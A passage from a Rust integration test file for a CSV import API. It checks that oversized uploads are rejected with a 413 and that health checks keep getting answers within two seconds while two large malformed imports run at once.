                node.http
                    .post(node.url("/import"))
                    .header("content-type", "multipart/form-data; boundary=X")
                    .body(form),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(page.status(), 413, "{}", node.backend);
        // Below the limit all is as before.
        let small = node
            .as_role(
                Role::Deployment,
                node.http
                    .post(node.url("/api/v1/imports/deployments?dry_run=true"))
                    .body(format!(
                        "{DEPLOYMENTS_HEADER}\nEULEX Kosovo,OK-1,Mila,Jacobs,female,,,Adviseur,2027-03-01,2027-12-31,planned,\n"
                    )),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(small.status(), 200, "{}", node.backend);
    }
}

/// Finding: the import's work ran on the request threads, and two modest imports at once
/// froze every endpoint for 6 s. With two worker threads and two large imports at once, a
/// client on a thread of its own keeps getting answers, none later than two seconds.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn other_requests_are_answered_while_large_imports_run() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    for node in nodes().await {
        let mut csv = format!("{DEPLOYMENTS_HEADER}\n");
        for i in 0..30_000 {
            // Ragged rows: the whole file is read and every row refused.
            csv.push_str(&format!("EULEX Kosovo,RAG-{i},Mila\n"));
        }
        let running = Arc::new(AtomicBool::new(true));
        let healthz = node.url("/healthz");
        let watcher = {
            let running = running.clone();
            std::thread::spawn(move || {
                let runtime = tokio::runtime::Builder::new_current_thread()
                    .enable_all()
                    .build()
                    .unwrap();
                runtime.block_on(async move {
                    let http = reqwest::Client::builder()
                        .timeout(std::time::Duration::from_secs(2))
                        .build()
                        .unwrap();
                    let (mut answered, mut late) = (0, Vec::new());
                    while running.load(Ordering::SeqCst) {
                        let started = std::time::Instant::now();
                        match http.get(&healthz).send().await {
                            Ok(answer) if answer.status() == 200 => {
                                if running.load(Ordering::SeqCst) {
                                    answered += 1;
                                }
                            }
                            other => late.push(format!(
                                "{:?} after {:?}",
                                other.map(|a| a.status()),
                                started.elapsed()
                            )),
                        }
                    }
                    (answered, late)
                })
            })
        };
        let import = |csv: String| {
            let request = node.as_role(
                Role::Deployment,
                node.http
                    .post(node.url("/api/v1/imports/deployments?dry_run=true"))
                    .header("content-type", "text/csv")
                    .body(csv),
            );
            async move {
                let answer = request.send().await.unwrap();
                let status = answer.status().as_u16();
                let body: Value = answer.json().await.unwrap();
                (status, body["error_count"].as_u64())
            }
        };
        let (first, second) = tokio::join!(import(csv.clone()), import(csv));
        running.store(false, Ordering::SeqCst);
        let (answered, late) = watcher.join().unwrap();
        assert_eq!(first, (422, Some(30_000)), "{}", node.backend);
        assert_eq!(second, (422, Some(30_000)));
        assert!(
            late.is_empty(),
            "{}: {} requests unanswered within 2 s, the first: {:?}",
            node.backend,
            late.len(),
            late.first()
        );
        assert!(
            answered > 0,
            "{}: no request was answered while the imports ran",
            node.backend
        );
    }
}
